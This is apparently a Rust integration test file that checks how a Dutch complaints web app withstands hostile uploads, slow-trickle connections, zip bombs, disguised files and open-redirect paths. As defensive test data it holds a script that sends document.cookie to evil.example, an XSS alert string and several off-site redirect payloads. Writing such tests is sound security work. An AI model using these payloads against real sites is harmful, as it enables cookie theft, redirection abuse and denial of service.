//! Request handling tried as an attacker would (issue 13): hostile uploads against the real server
//! process (memory stays small, the server keeps answering), bodies and headers trickling in at
//! one byte a second, uploads refused before their body is read, files that are not what their
//! name says, downloads that must never open in the browser, and links or return paths that try
//! to lead off the site.

#[path = "../../benches/support/hostile.rs"]
mod attack;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use diesel::prelude::*;
use klankbord::accounts::model::Role;
use klankbord::db::schema::complaint_attachments;
use klankbord::web::i18n::{t_args, Lang};

use crate::cli::{klankbord, start_server, Running};
use crate::support::{TestApp, TEST_CSRF};
use attack::Shape;

/// `klankbord serve` as its own process on a fresh SQLite file: (process, `host:port`, pid).
fn serve(dir: &std::path::Path) -> (Running, String, u32) {
    let mut cmd = klankbord();
    cmd.arg("serve")
        .env(
            "DATABASE_URL",
            format!("sqlite://{}", dir.join("k.db").display()),
        )
        .env("KLANKBORD_BIND", "127.0.0.1:0")
        .env(
            "KLANKBORD_MAIL",
            format!("folder:{}", dir.join("mail").display()),
        )
        .current_dir(dir);
    let (running, banner) = start_server(cmd);
    let addr = banner
        .lines()
        .next()
        .unwrap()
        .trim_start_matches("http://")
        .to_string();
    let pid = running.0.id();
    (running, addr, pid)
}

const MIB: u64 = 1024 * 1024;

#[test]
fn hostile_uploads_leave_the_real_server_small_and_answering() {
    let dir = tempfile::tempdir().unwrap();
    let (_server, addr, pid) = serve(dir.path());
    let target = attack::Target::new(&addr);
    let (idle, _) = attack::memory_kib(pid);
    assert!(idle > 0, "no /proc/{pid}/status");

    // While the attack runs, a visitor keeps opening the start page.
    let stop = Arc::new(AtomicBool::new(false));
    let probe = {
        let (stop, addr) = (stop.clone(), addr.clone());
        std::thread::spawn(move || {
            let mut answers = vec![];
            while !stop.load(Ordering::Relaxed) {
                answers.push(attack::get_status(&addr, "/", Duration::from_secs(20)));
                std::thread::sleep(Duration::from_millis(250));
            }
            answers
        })
    };
    // And the memory is read all the time (VmHWM below keeps the peak as well).
    let highest = Arc::new(Mutex::new(0u64));
    let watcher = {
        let (stop, highest) = (stop.clone(), highest.clone());
        std::thread::spawn(move || {
            while !stop.load(Ordering::Relaxed) {
                let (rss, _) = attack::memory_kib(pid);
                if let Ok(mut h) = highest.lock() {
                    *h = (*h).max(rss);
                }
                std::thread::sleep(Duration::from_millis(20));
            }
        })
    };

    // Every shape in turn, four connections at a time, at least 160 MB each: 1.4 GB in all.
    let file_limit = 10 * MIB;
    let mut total = 0;
    let mut report = vec![];
    for shape in Shape::HOSTILE {
        let o = attack::run(
            shape,
            &target,
            file_limit,
            160 * MIB,
            4,
            20_000,
            Duration::from_secs(120),
        );
        total += o.bytes;
        // What came back is a refusal: never a stored complaint, never a server error.
        let expected: &[u16] = match shape {
            Shape::NoCookie | Shape::FieldsNoTokenChunked => &[403],
            _ => &[413],
        };
        assert!(
            o.statuses.keys().all(|s| expected.contains(s)),
            "{shape:?}: {:?}",
            o.statuses
        );
        report.push(format!(
            "{}: {} MB in {} requests, answers {:?}",
            shape.describe(),
            o.bytes / MIB,
            o.requests,
            o.statuses
        ));
    }
    // The largest upload the form allows, read whole (files to disk), four at a time.
    let o = attack::run(
        Shape::LargestAllowed,
        &target,
        file_limit,
        u64::MAX,
        4,
        8,
        Duration::from_secs(120),
    );
    assert_eq!(o.statuses.get(&422), Some(&8), "{:?}", o.statuses);
    total += o.bytes;
    stop.store(true, Ordering::Relaxed);
    let answers = probe.join().unwrap();
    watcher.join().unwrap();

    let (rss, peak) = attack::memory_kib(pid);
    let seen = *highest.lock().unwrap();
    let summary = format!(
        "sent {} MB; RSS idle {} MB, now {} MB, highest seen {} MB, peak (VmHWM) {} MB\n{}",
        total / MIB,
        idle / 1024,
        rss / 1024,
        seen / 1024,
        peak / 1024,
        report.join("\n")
    );
    eprintln!("{summary}");
    assert!(
        total >= 1 << 30,
        "the attack sent less than 1 GB: {summary}"
    );
    assert!(peak < 300 * 1024, "memory went over 300 MB: {summary}");
    assert!(
        !answers.is_empty() && answers.iter().all(|a| *a == Some(200)),
        "the start page did not always answer during the attack: {answers:?}"
    );
    assert_eq!(
        attack::get_status(&addr, "/", Duration::from_secs(10)),
        Some(200)
    );
    // No complaint was stored, and no temporary file was left behind.
    let mut conn = klankbord::db::DatabaseUrl::parse(&format!(
        "sqlite://{}",
        dir.path().join("k.db").display()
    ))
    .unwrap()
    .connect()
    .unwrap();
    assert_eq!(crate::support::count_rows(&mut conn, "complaints"), 0);
}

/// How a trickle ended: seconds until the server closed, and the status it answered, if any.
fn trickle(addr: &str, head: &str, byte: &dyn Fn(usize) -> Vec<u8>) -> (f64, Option<u16>) {
    let mut s = TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(1))).unwrap();
    let started = Instant::now();
    let mut answer = Vec::new();
    let mut closed = false;
    if s.write_all(head.as_bytes()).is_ok() {
        // At most 40 seconds: one byte a second, then a second of listening.
        'trickle: for i in 0..40 {
            if s.write_all(&byte(i)).is_err() {
                closed = true;
                break;
            }
            let until = Instant::now() + Duration::from_secs(1);
            while Instant::now() < until {
                let mut buf = [0u8; 4096];
                match s.read(&mut buf) {
                    Ok(0) => {
                        closed = true;
                        break 'trickle;
                    }
                    Ok(n) => answer.extend_from_slice(&buf[..n]),
                    Err(e)
                        if matches!(
                            e.kind(),
                            std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                        ) => {}
                    Err(_) => {
                        closed = true;
                        break 'trickle;
                    }
                }
            }
        }
    } else {
        closed = true;
    }
    let took = started.elapsed().as_secs_f64();
    let status = String::from_utf8_lossy(&answer)
        .split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok());
    (if closed { took } else { f64::INFINITY }, status)
}

/// What is sent each second: the i-th byte of a body (or its chunk).
type Byte = Box<dyn Fn(usize) -> Vec<u8> + Send>;

#[test]
fn a_body_or_headers_trickling_in_at_one_byte_a_second_are_ended_within_20_seconds() {
    let dir = tempfile::tempdir().unwrap();
    let (_server, addr, _) = serve(dir.path());
    let token = attack::Target::new(&addr).token;
    let boundary = "----druppelgrens";
    let part = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"csrf\"\r\n\r\n{token}\r\n--{boundary}\r\nContent-Disposition: form-data; name=\"omschrijving\"\r\n\r\n"
    );
    let part = Arc::new(part.into_bytes());
    let plain = {
        let part = part.clone();
        move |i: usize| vec![*part.get(i).unwrap_or(&b'a')]
    };
    let chunked = {
        let part = part.clone();
        move |i: usize| {
            let mut c = b"1\r\n".to_vec();
            c.push(*part.get(i).unwrap_or(&b'a'));
            c.extend_from_slice(b"\r\n");
            c
        }
    };
    let cases: Vec<(&str, String, Byte, &[u16])> = vec![
        (
            "upload with a length",
            format!("POST /klacht HTTP/1.1\r\nHost: {addr}\r\nCookie: kb_csrf={token}\r\nContent-Type: multipart/form-data; boundary={boundary}\r\nContent-Length: 100000\r\n\r\n"),
            Box::new(plain.clone()),
            &[408],
        ),
        (
            "upload, chunked",
            format!("POST /klacht HTTP/1.1\r\nHost: {addr}\r\nCookie: kb_csrf={token}\r\nContent-Type: multipart/form-data; boundary={boundary}\r\nTransfer-Encoding: chunked\r\n\r\n"),
            Box::new(chunked.clone()),
            &[408],
        ),
        (
            "url-encoded form",
            format!("POST /klacht/volgen HTTP/1.1\r\nHost: {addr}\r\nCookie: kb_csrf={token}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\n"),
            Box::new(|_| b"a".to_vec()),
            &[408],
        ),
        (
            "a body nobody reads, chunked",
            format!("GET /privacy HTTP/1.1\r\nHost: {addr}\r\nTransfer-Encoding: chunked\r\n\r\n"),
            Box::new(chunked),
            &[200],
        ),
        (
            "headers",
            format!("GET / HTTP/1.1\r\nHost: {addr}\r\nX-Traag: "),
            Box::new(|_| b"a".to_vec()),
            &[408],
        ),
    ];
    let runs: Vec<_> = cases
        .into_iter()
        .map(|(name, head, byte, expected)| {
            let addr = addr.clone();
            std::thread::spawn(move || (name, trickle(&addr, &head, &*byte), expected))
        })
        .collect();
    for run in runs {
        let (name, (took, status), expected) = run.join().unwrap();
        // The server ends it at about 10 s; 25 s leaves room for a busy machine.
        assert!(took < 25.0, "{name}: still open after {took:.1} s");
        if let Some(status) = status {
            assert!(expected.contains(&status), "{name}: answered {status}");
        }
    }
}

/// Sends `head` and `partial` (never the whole body) and reads the answer: an answer proves the
/// server decided without waiting for the rest.
fn answer_before_body(base: &str, head: &str, partial: &[u8]) -> u16 {
    let addr = base.trim_start_matches("http://");
    let mut s = TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(15))).unwrap();
    s.write_all(head.replace("{addr}", addr).as_bytes())
        .unwrap();
    let _ = s.write_all(partial);
    let mut answer = Vec::new();
    let mut buf = [0u8; 4096];
    while !answer.windows(4).any(|w| w == b"\r\n\r\n") {
        match s.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => answer.extend_from_slice(&buf[..n]),
            Err(e) => panic!("no answer before the body was sent: {e}\n{head}"),
        }
    }
    String::from_utf8_lossy(&answer)
        .split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or_else(|| panic!("no status in {:?}", String::from_utf8_lossy(&answer)))
}

crate::both_backends!(uploads_are_refused_before_their_body_is_read, |app| {
    let boundary = "----vooraf";
    let mp = format!("multipart/form-data; boundary={boundary}");
    let field = |name: &str, value: &str| {
        format!(
            "--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n"
        )
    };
    let gb = 1u64 << 30;
    // No CSRF cookie at all: refused at once.
    let head = format!(
        "POST /klacht HTTP/1.1\r\nHost: {{addr}}\r\nContent-Type: {mp}\r\nContent-Length: {gb}\r\n\r\n"
    );
    assert_eq!(answer_before_body(&app.base, &head, b""), 403);
    // A cookie, but 1 GB announced: more than the form can hold.
    let head = format!(
        "POST /klacht HTTP/1.1\r\nHost: {{addr}}\r\nCookie: kb_csrf={TEST_CSRF}\r\nContent-Type: {mp}\r\nContent-Length: {gb}\r\n\r\n"
    );
    assert_eq!(answer_before_body(&app.base, &head, b""), 413);
    // A body that does not start with the token: refused after its first field.
    let head = format!(
        "POST /klacht HTTP/1.1\r\nHost: {{addr}}\r\nCookie: kb_csrf={TEST_CSRF}\r\nContent-Type: {mp}\r\nTransfer-Encoding: chunked\r\n\r\n"
    );
    let first = field("omschrijving", &"a".repeat(1000));
    let chunk = format!("{:x}\r\n{first}\r\n", first.len());
    assert_eq!(answer_before_body(&app.base, &head, chunk.as_bytes()), 403);
    // A wrong token: the same (the next boundary ends the token field).
    let first = format!(
        "{}--{boundary}\r\n",
        field("csrf", "verkeerdverkeerdverkeerdverkeerdverkeerd")
    );
    let chunk = format!("{:x}\r\n{first}\r\n", first.len());
    assert_eq!(answer_before_body(&app.base, &head, chunk.as_bytes()), 403);
    // A url-encoded form larger than any form: refused at once.
    let head = format!(
        "POST /inloggen HTTP/1.1\r\nHost: {{addr}}\r\nCookie: kb_csrf={TEST_CSRF}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n",
        10 * MIB
    );
    assert_eq!(answer_before_body(&app.base, &head, b"csrf="), 413);
    // A compressed body (a "zip bomb" inflates in memory before any limit sees it): refused at once.
    let head = format!(
        "POST /inloggen HTTP/1.1\r\nHost: {{addr}}\r\nCookie: kb_csrf={TEST_CSRF}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Encoding: gzip\r\nContent-Length: 1000\r\n\r\n"
    );
    assert_eq!(answer_before_body(&app.base, &head, b"\x1f\x8b\x08\0"), 415);

    // Staff uploads: without a session, refused before reading.
    let (_, _, coordinator) = app.user("vooraf.coordinator", &[Role::Klachtcoordinator]);
    let (_, _, handler) = app.user("vooraf.behandelaar", &[Role::Klachtbehandelaar]);
    let s = klankbord::complaints::Setup::new(Arc::new(
        klankbord::config::Config::from_sources(None, &[]).unwrap(),
    ))
    .unwrap();
    let (case, _) = klankbord::complaints::store::register(
        &mut app.conn(),
        &s.env(),
        &klankbord::complaints::store::NewComplaint {
            received_on: klankbord::fmt::today(),
            channel: klankbord::complaints::terms::Channel::Letter,
            language: klankbord::web::i18n::Lang::Nl,
            description: "Ik werd niet teruggebeld.".into(),
            ..Default::default()
        },
        Some(coordinator),
    )
    .unwrap();
    let upload_head = |cookies: &str| {
        format!(
            "POST /klachten/{case}/bijlagen HTTP/1.1\r\nHost: {{addr}}\r\nCookie: {cookies}\r\nContent-Type: {mp}\r\nContent-Length: {}\r\n\r\n",
            5 * MIB
        )
    };
    let file_start = format!(
        "{}--{boundary}\r\nContent-Disposition: form-data; name=\"stuk\"; filename=\"x.pdf\"\r\n\r\n%PDF-1.4",
        field("csrf", TEST_CSRF)
    );
    assert_eq!(
        answer_before_body(
            &app.base,
            &upload_head(&format!("kb_csrf={TEST_CSRF}")),
            file_start.as_bytes()
        ),
        401
    );
    // A handler to whom the case is not assigned: refused after the token, before the file.
    let session =
        klankbord::accounts::sessions::create(&mut app.conn(), handler, klankbord::db::now())
            .unwrap();
    let cookies = format!(
        "kb_csrf={TEST_CSRF}; {}={session}",
        klankbord::accounts::sessions::COOKIE
    );
    assert_eq!(
        answer_before_body(&app.base, &upload_head(&cookies), file_start.as_bytes()),
        404
    );
    assert_eq!(app.count("complaint_attachments"), 0);
});

/// A multipart body with a token and fields, and files as (field, name, declared type, bytes).
fn upload_body(
    token: &str,
    fields: &[(&str, &str)],
    files: &[(&str, &str, &str, &[u8])],
) -> (String, Vec<u8>) {
    let boundary = "----inhoudsgrens";
    let mut body = Vec::new();
    for (name, value) in [("csrf", token)].iter().chain(fields) {
        body.extend_from_slice(
            format!("--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
                .as_bytes(),
        );
    }
    for (field, name, kind, bytes) in files {
        body.extend_from_slice(
            format!("--{boundary}\r\nContent-Disposition: form-data; name=\"{field}\"; filename=\"{name}\"\r\nContent-Type: {kind}\r\n\r\n")
                .as_bytes(),
        );
        body.extend_from_slice(bytes);
        body.extend_from_slice(b"\r\n");
    }
    body.extend_from_slice(format!("--{boundary}--\r\n").as_bytes());
    (format!("multipart/form-data; boundary={boundary}"), body)
}

const PAGE: &[u8] = b"<!DOCTYPE html><html><body><script>fetch('//evil.example/?c='+document.cookie)</script></body></html>";

crate::both_backends!(
    files_are_checked_by_their_content_and_never_opened_in_the_browser,
    |app| {
        let resident = app.client();
        let token = resident.get("/klacht?lang=nl").csrf();
        let description = ("omschrijving", "Mijn uitkering kwam drie weken te laat.");
        // A page renamed to .pdf, and one declared as a pdf, and a script as a text file: refused in
        // plain Dutch, naming the file; nothing is stored.
        for (name, kind, bytes) in [
            ("brief.pdf", "application/pdf", PAGE),
            ("brief.pdf", "text/html", PAGE),
            ("scan.jpg", "image/jpeg", PAGE),
            (
                "notitie.txt",
                "text/plain",
                b"<script>alert(1)</script>".as_slice(),
            ),
            (
                "foto.png",
                "image/png",
                b"\xFF\xD8\xFF\xE0 een jpg met een andere naam".as_slice(),
            ),
        ] {
            let (ct, body) = upload_body(&token, &[description], &[("bijlage", name, kind, bytes)]);
            let r = resident.post_body("/klacht?lang=nl", &ct, &body);
            assert_eq!(r.status, 422, "{name} {kind}");
            assert!(
                r.texts(".error-summary").join(" ").contains(&t_args(
                    Lang::Nl,
                    "upload-error-file-content",
                    &[("file", name)]
                )),
                "{name}: {}",
                r.texts(".error-summary").join(" ")
            );
            // What was typed comes back.
            assert!(r.body.contains("Mijn uitkering kwam drie weken te laat."));
        }
        assert_eq!(app.count("complaints"), 0);
        assert_eq!(app.count("complaint_attachments"), 0);
        // Too many files: said, not a broken page.
        let pdf: &[u8] = b"%PDF-1.4 brief";
        let four: Vec<(&str, &str, &str, &[u8])> = (0..4)
            .map(|_| ("bijlage", "brief.pdf", "application/pdf", pdf))
            .collect();
        let (ct, body) = upload_body(&token, &[description], &four);
        let r = resident.post_body("/klacht?lang=nl", &ct, &body);
        assert_eq!(r.status, 422);
        assert!(r.body.contains(&t_args(
            Lang::Nl,
            "upload-error-too-many-files",
            &[("n", "3")]
        )));
        // A real pdf declared as a web page is taken, and stored as what it is.
        let (ct, body) = upload_body(
            &token,
            &[description],
            &[("bijlage", "brief.pdf", "text/html", pdf)],
        );
        let r = resident.post_body("/klacht?lang=nl", &ct, &body);
        assert_eq!(r.status, 303, "{}", r.body);
        let (id, stored_type): (i64, String) = complaint_attachments::table
            .select((
                complaint_attachments::complaint_id,
                complaint_attachments::content_type,
            ))
            .get_result(&mut app.conn())
            .unwrap();
        assert_eq!(stored_type, "application/pdf");

        // Staff documents are checked the same way.
        let (coordinator, _) = app.logged_in("inhoud.coordinator", &[Role::Klachtcoordinator]);
        let path = format!("/klachten/{id}");
        let staff_token = coordinator.get(&format!("{path}?lang=nl")).csrf();
        let (ct, body) = upload_body(
            &staff_token,
            &[],
            &[("stuk", "verslag.pdf", "application/pdf", PAGE)],
        );
        let r = coordinator.post_body(&format!("{path}/bijlagen?lang=nl"), &ct, &body);
        assert_eq!(r.status, 422);
        assert!(r.body.contains(&t_args(
            Lang::Nl,
            "upload-error-file-content",
            &[("file", "verslag.pdf")]
        )));
        assert_eq!(app.count("complaint_attachments"), 1);

        // A file stored before content was checked (a web page called "brief.html", stored as
        // text/html) still comes out as a download of plain bytes.
        diesel::insert_into(complaint_attachments::table)
            .values((
                complaint_attachments::complaint_id.eq(id),
                complaint_attachments::file_name.eq("brief.html"),
                complaint_attachments::content_type.eq("text/html"),
                complaint_attachments::size.eq(PAGE.len() as i64),
                complaint_attachments::data.eq(PAGE),
            ))
            .execute(&mut app.conn())
            .unwrap();
        let page = coordinator.get(&format!("{path}?lang=nl"));
        let links: Vec<String> = hrefs(&page.body)
            .into_iter()
            .filter(|h| h.contains("/bijlagen/"))
            .collect();
        assert_eq!(links.len(), 2, "{links:?}");
        for (link, kind) in links
            .iter()
            .zip(["application/pdf", "application/octet-stream"])
        {
            let r = coordinator.get(link);
            assert_eq!(r.status, 200);
            let disposition = r.header("content-disposition").unwrap_or_default();
            assert!(disposition.starts_with("attachment;"), "{disposition}");
            assert!(!disposition.contains('\n') && !disposition.contains('\r'));
            assert_eq!(r.header("content-type"), Some(kind), "{link}");
            assert_eq!(r.header("x-content-type-options"), Some("nosniff"));
            assert!(r
                .header("content-security-policy")
                .is_some_and(|c| c.contains("sandbox")));
        }
    }
);

/// Every `href` in a page.
fn hrefs(body: &str) -> Vec<String> {
    scraper::Html::parse_document(body)
        .select(&scraper::Selector::parse("[href]").unwrap())
        .filter_map(|a| a.value().attr("href").map(str::to_string))
        .collect()
}

/// A raw GET of exactly `path` (no client normalises it): the status and the body.
fn raw_get(base: &str, path: &str) -> (u16, String) {
    let addr = base.trim_start_matches("http://");
    let mut s = TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(15))).unwrap();
    write!(
        s,
        "GET {path} HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n\r\n"
    )
    .unwrap();
    let mut all = Vec::new();
    let _ = s.read_to_end(&mut all);
    let text = String::from_utf8_lossy(&all).to_string();
    let status = text
        .split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or(0);
    let body = text.split_once("\r\n\r\n").map(|(_, b)| b).unwrap_or("");
    (status, body.to_string())
}

#[test]
fn no_link_on_a_page_leads_off_the_site() {
    let Some(app) = TestApp::spawn(crate::support::Backend::Sqlite, "no_link_off_site") else {
        return;
    };
    for path in [
        "//evil.example/",
        "//evil.example/klacht",
        "///evil.example/",
        "/\\evil.example/",
        "/%2F%2Fevil.example/",
        "/%5Cevil.example/",
        "//evil.example/?lang=en",
    ] {
        let (status, body) = raw_get(&app.base, path);
        if status == 400 {
            continue; // refused before any page was made
        }
        let links = hrefs(&body);
        assert!(!links.is_empty(), "{path}: {status} without a page");
        for href in links.iter().filter(|h| !h.starts_with('#')) {
            let h = href.replace('\\', "/");
            assert!(
                h.starts_with('/') && !h.starts_with("//") && !h.contains("evil.example"),
                "{path}: link {href:?}"
            );
        }
        // The language switch leads to this site's start page instead.
        assert!(links.iter().any(|h| h == "/?lang=en"), "{path}: {links:?}");
    }
    // A normal page keeps its own language links.
    let (_, body) = raw_get(&app.base, "/klacht");
    assert!(hrefs(&body).iter().any(|h| h == "/klacht?lang=en"));
}

crate::both_backends!(the_login_return_path_never_leaves_the_site, |app| {
    let (user, password, _) = app.user("terug.medewerker", &[Role::Klachtcoordinator]);
    for evil in [
        "/\t/evil.example/",
        "/\n/evil.example/",
        "//evil.example/",
        "/\\evil.example/",
        "https://evil.example/",
        "/%2F/evil.example/",
        "/%09/evil.example/",
    ] {
        let encoded = klankbord::web::routes::encode(evil);
        // The login page does not carry it along...
        let page = app.client().get(&format!("/inloggen?terug={encoded}"));
        assert_eq!(page.status, 200);
        assert_eq!(
            page.attr("input[name='terug']", "value").as_deref(),
            Some("/werkplek"),
            "{evil:?}"
        );
        // ...and a login that sends it anyway goes to the workplace.
        let r = app.client().submit(
            "/inloggen",
            "/inloggen",
            &[
                ("gebruikersnaam", &user),
                ("wachtwoord", &password),
                ("terug", evil),
            ],
        );
        assert_eq!(r.status, 303, "{evil:?}");
        assert_eq!(r.header("location"), Some("/werkplek"), "{evil:?}");
    }
    // A path on the site is followed.
    let r = app.client().submit(
        "/inloggen",
        "/inloggen",
        &[
            ("gebruikersnaam", &user),
            ("wachtwoord", &password),
            ("terug", "/klachten?fase=alle"),
        ],
    );
    assert_eq!(r.header("location"), Some("/klachten?fase=alle"));
});
